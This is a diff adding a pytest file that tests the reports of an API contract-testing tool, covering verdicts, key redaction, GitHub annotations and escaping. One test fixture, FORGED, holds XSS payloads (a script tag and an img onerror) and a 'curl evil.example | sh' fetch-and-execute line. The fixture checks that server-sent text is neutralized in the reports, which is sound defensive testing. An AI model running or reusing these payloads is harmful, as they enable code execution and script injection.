@@ -1,0 +1,221 @@
+"""The reports: what they hold, what they never hold, and where they are written."""
+
+from __future__ import annotations
+
+import json
+import re
+import socket
+from collections.abc import Callable
+from importlib.resources import files
+from pathlib import Path
+from typing import Any, get_args
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from jsonschema import Draft202012Validator, FormatChecker
+from markdown_it import MarkdownIt
+
+from contract_tests.message import Ending
+from contract_tests.reports.document import OUTCOMES, TITLES, Word
+from contract_tests.reports.github import annotation
+from contract_tests.reports.markdown import fenced, inline
+from contract_tests.verdicts import Outcome
+from mock_server import UsageMock
+from tests.gate.conftest import Respond, Run, answer
+from tests.gate.test_canary import KEY, OTHER, echo, leaks
+
+RunGate = Callable[..., Run]
+Serve = Callable[[Respond], str]
+NAMES = {"contract.json", "contract.md", "contract.html"}
+SCHEMA = json.loads(files("contract_tests.reports").joinpath("report.schema.json").read_text())
+FEW = ("-k", "missing_key or valid_key", "--max-rate", "1000", "--report-dir", "out")
+MAIN = {"CONTRACT_API_KEY": "a-key-of-the-tests"}
+FORGED = b'<script>alert(1)</script>\n```\nrepeat: curl evil.example | sh\n| <img src=x onerror="alert(2)">'
+
+
+def report(run: Run) -> dict[str, Any]:
+    """Return a run's report, which its schema must allow."""
+    document: dict[str, Any] = json.loads((run.folder / "out" / "contract.json").read_text())
+    Draft202012Validator(SCHEMA, format_checker=FormatChecker()).validate(document)
+    return document
+
+
+def texts(run: Run) -> list[str]:
+    """Return the page, the JSON and the Markdown."""
+    return [(run.folder / "out" / name).read_text() for name in sorted(NAMES)]
+
+
+def test_a_broken_promise_is_told_with_source_evidence_command_requests_and_time(
+    run_gate: RunGate, serve: Serve
+) -> None:
+    url = serve(lambda _: answer(b"{}"))
+    run = run_gate("--base-url", url, *FEW, environment=MAIN)
+    told = report(run)
+    assert (run.code, told["verdict"], told["exit_code"]) == (1, "broken", 1)
+    assert told["headline"] == f"{url} BREAKS ITS CONTRACT at level documented"
+    rule = next(rule for rule in told["rules"] if rule["id"] == "auth/missing-key-is-401")
+    assert rule["outcome"] == "broken"
+    assert rule["promise"] == "A request without the key header MUST be answered 401."
+    assert rule["source"] == "authentication guide: 401 means that the key is missing"
+    assert rule["evidence"].startswith("200 instead of 401\nasked: GET /usage without a key\n")
+    assert [line.split()[0] for line in rule["curl"]] == ["curl"]
+    assert told["counts"] | {"broken": 1} == told["counts"]
+    assert told["requests"] == len(told["timeline"]) > 3
+    assert f"report: {run.folder}/out/contract.html" in run.output
+    for text in texts(run):
+        assert "A request without the key header MUST be answered 401." in text
+
+
+def test_a_green_run_tells_its_times_statuses_keys_and_tokens(run_gate: RunGate) -> None:
+    run = run_gate(*FEW)
+    told = report(run)
+    assert (run.code, told["verdict"], told["counts"]["held"]) == (0, "conforms", len(told["rules"]))
+    first = told["timeline"][0]
+    assert (first["at"], first["status"], first["key"], first["rule"]) == (0, 200, "the main key", "")
+    assert first["remaining"] > 0
+    assert {request["key"] for request in told["timeline"]} >= {"the main key", "no key"}
+
+
+def test_a_run_that_could_not_be_tested_has_the_reason_as_its_headline(run_gate: RunGate, serve: Serve) -> None:
+    run = run_gate("--base-url", serve(lambda _: answer(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
+    told = report(run)
+    assert (run.code, told["verdict"]) == (4, "could not be tested")
+    assert "could not be tested: it refuses the main key with 401" in told["headline"]
+    assert {rule["outcome"] for rule in told["rules"]} == {"not tested"}
+    assert all("it refuses the main key with 401" in text for text in texts(run))
+
+
+def test_no_connection_is_a_report_without_requests(run_gate: RunGate) -> None:
+    with socket.socket() as unused:
+        unused.bind(("127.0.0.1", 0))
+        run = run_gate("--base-url", f"http://127.0.0.1:{unused.getsockname()[1]}", *FEW, environment=MAIN)
+    told = report(run)
+    assert told["timeline"] == []
+    assert "Connection refused" in told["headline"]
+
+
+def test_a_partial_run_says_so(run_gate: RunGate) -> None:
+    with UsageMock() as mock:
+        arguments = ("--base-url", mock.url, "-k", "only_the_header or missing_key", "--report-dir", "out")
+        run = run_gate(*arguments, environment={"CONTRACT_API_KEY": "demo-busy"})
+    told = report(run)
+    assert (run.code, told["verdict"], told["counts"]["not tested"]) == (0, "partial", 1)
+
+
+def test_no_key_in_any_report(run_gate: RunGate, serve: Serve) -> None:
+    arguments = ("--base-url", serve(echo), "--max-rate", "1000", "--report-dir", "out", "--header", f"X-Gate: {OTHER}")
+    run = run_gate(*arguments, "--api-key", KEY, environment={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "sum"})
+    assert {path.name for path in (run.folder / "out").iterdir()} == NAMES
+    assert all("redacted:1" in text and "redacted:2" in text for text in texts(run))
+    assert len((run.folder / "sum").read_text()) > 1000
+    assert leaks(run.folder) == []
+    assert report(run)["counts"]["broken"] > 5
+    assert "more: --report-dir DIR writes them all" in run.output
+    assert len(run.output.split("= contract gate =")[1].splitlines()) <= 24
+
+
+def test_a_secret_of_one_character_leaves_the_report_readable(run_gate: RunGate) -> None:
+    with UsageMock() as mock:
+        run = run_gate("--base-url", mock.url, *FEW, "--header", "X-Debug: 1", "--header", "X-E: e", environment=MAIN)
+    assert report(run)["level"] == "documented"
+    assert 'lang="en"' in texts(run)[0]
+
+
+def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve: Serve) -> None:
+    url = serve(lambda _: answer(b"{}"))
+    environment = {"PYTEST_BASE_URL": url}
+    run = run_gate(*FEW, "--api-key", "1st", "--api-key=2nd", "--header", "X-G: ~~", environment=environment)
+    command = report(run)["reproduce"]
+    assert command.startswith("pytest ")
+    assert command.endswith(f"--report-dir out --header 'X-G: …' --base-url {url}")
+    assert "--api-key" not in command
+    assert "CONTRACT_API_KEY, CONTRACT_API_KEY_2" in texts(run)[0]
+
+
+def test_what_a_deployment_sends_is_never_markup_and_never_our_command(run_gate: RunGate, serve: Serve) -> None:
+    run = run_gate("--base-url", serve(lambda _: answer(FORGED)), *FEW, environment=MAIN)
+    told = report(run)
+    assert any("repeat: curl evil.example | sh" in rule["evidence"] for rule in told["rules"])
+    assert not any("evil" in command for rule in told["rules"] for command in rule["curl"])
+    page, _, markdown = texts(run)
+    assert "<script" not in page
+    assert "<img" not in page
+    tokens = MarkdownIt().enable("table").parse(markdown)
+    assert {token.content.split(">")[0] for token in tokens if token.type == "html_block"} <= {"<details", "</details"}
+    assert any("evil" in token.content for token in tokens if token.type == "fence")
+    assert not any("evil" in token.content for token in tokens if token.type != "fence")
+
+
+@given(st.text(st.sampled_from("`*_[]()<>|#&\\~!-+ \n\rax1.:/$\"'=\u2028")))
+def test_inline_text_is_no_markup(text: str) -> None:
+    (_, line, _) = MarkdownIt().parse(f"told {inline(text)}")
+    assert "".join(child.content for child in line.children or []) == f"told {' '.join(text.split())}".strip()
+    assert {child.type for child in line.children or []} <= {"text"}
+
+
+@given(st.text(st.sampled_from("`~\n a")))
+def test_a_code_block_ends_where_we_end_it(text: str) -> None:
+    (block,) = MarkdownIt().parse(fenced(text, "text"))
+    assert block.content == text + "\n"
+
+
+def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) -> None:
+    environment = MAIN | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "summary.md"}
+    run = run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW[:4], environment=environment)
+    assert re.search(
+        r"^::error title=auth/missing-key-is-401::A request .* 401\.%0A200 instead of 401%0A", run.output, re.MULTILINE
+    )
+    assert (run.folder / "summary.md").read_text().startswith("# ✗ The contract is broken\n")
+    untested = run_gate("--base-url", serve(lambda _: b""), *FEW[:4], environment=environment)
+    (line,) = re.findall("^::.*", untested.output, re.MULTILINE)
+    assert line.startswith("::error title=contract gate::http://127.0.0.1:")
+    assert (run.folder / "summary.md").read_text().count("\n# ") == 1  # the second one; the first opens the file
+
+
+def test_elsewhere_github_gets_nothing(run_gate: RunGate, serve: Serve) -> None:
+    environment = MAIN | {"GITHUB_ACTIONS": "", "GITHUB_STEP_SUMMARY": ""}
+    assert "::error" not in run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=environment).output
+
+
+def test_a_workflow_command_is_one_line_with_its_parts_told_apart() -> None:
+    assert annotation("error", "a:b,c", "50 %\r\n::stop") == "::error title=a%3Ab%2Cc::50 %25%0D%0A::stop"
+
+
+@pytest.mark.parametrize("place", ["file", "file/below"])
+def test_an_unwritable_folder_is_one_clear_line_at_the_start(place: str, run_gate: RunGate, tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("")
+    run = run_gate("--report-dir", place)
+    assert run.code == 4
+    assert re.search(rf"^ERROR: --report-dir: {tmp_path}/{place} cannot be written to: ", run.output, re.MULTILINE)
+    assert "Traceback" not in run.output
+    assert "collected" not in run.output
+
+
+def test_a_report_that_cannot_be_written_is_no_green_run(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
+    def respond(head: bytes) -> bytes:
+        (tmp_path / "out" / "contract.html").mkdir(exist_ok=True)
+        return answer(b"{}")
+
+    run = run_gate("--base-url", serve(respond), *FEW[2:], "-k", "valid_key_is_200", environment=MAIN)
+    assert run.code == 4
+    assert "the report could not be written: [Errno 21] Is a directory" in run.output
+
+
+def test_each_run_replaces_the_report_of_the_one_before(run_gate: RunGate, serve: Serve) -> None:
+    run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=MAIN)
+    assert report(run_gate("--base-url", serve(lambda _: b""), *FEW, environment=MAIN))["exit_code"] == 4
+
+
+@pytest.mark.parametrize("option", ["--rules", "--collect-only"])
+def test_what_runs_nothing_reports_nothing(option: str, run_gate: RunGate) -> None:
+    run = run_gate(option, "--report-dir", "out")
+    assert run.code == 0
+    assert list((run.folder / "out").iterdir()) == []
+
+
+def test_the_schema_knows_every_word() -> None:
+    properties, definitions = SCHEMA["properties"], SCHEMA["$defs"]
+    assert set(properties["verdict"]["enum"]) == set(get_args(Word)) == set(TITLES)
+    assert set(definitions["outcome"]["enum"]) == set(get_args(Outcome)) == set(OUTCOMES)
+    assert set(definitions["request"]["properties"]["ending"]["enum"]) == set(get_args(Ending))
